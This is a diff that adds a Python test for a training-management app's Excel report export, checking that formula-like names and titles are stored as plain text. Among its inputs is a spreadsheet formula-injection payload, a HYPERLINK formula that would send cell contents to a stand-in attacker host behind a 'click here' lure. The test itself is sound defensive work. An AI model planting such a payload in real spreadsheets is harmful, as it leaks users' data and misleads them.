@@ -184,3 +184,30 @@ def test_report_compares_pre_and_post_tests(tree, monkeypatch):
     gains = {r["official"].pk: r["gain"] for r in report["rows"]}
     assert gains == {a.official_id: 40, b.official_id: 30}
     assert report["pre_mean"] == 50 and report["post_mean"] == 85
+
+
+def test_report_xlsx_writes_formula_like_text_as_text(tree):
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from lms.training.reports import report_xlsx
+    from lms.training.selectors import session_report
+
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    session = session_with_days(tree["commune_a1"], days=1, title=payload)
+    names = [payload, "+84 912", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+    for name in names:
+        RegistrationFactory(session=session, official__full_name=name)
+    content = report_xlsx(session_report(session))
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    assert (sheet["A1"].value, sheet["A1"].data_type) == (payload, "s")
+    cells = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(5, 11)}
+    # XML reading turns the CR into LF; the cell is still text.
+    assert sorted(cells) == sorted(n.replace("\r", "\n") for n in names)
+    for cell in cells.values():
+        assert cell.data_type == "s" and cell.quotePrefix, cell.value
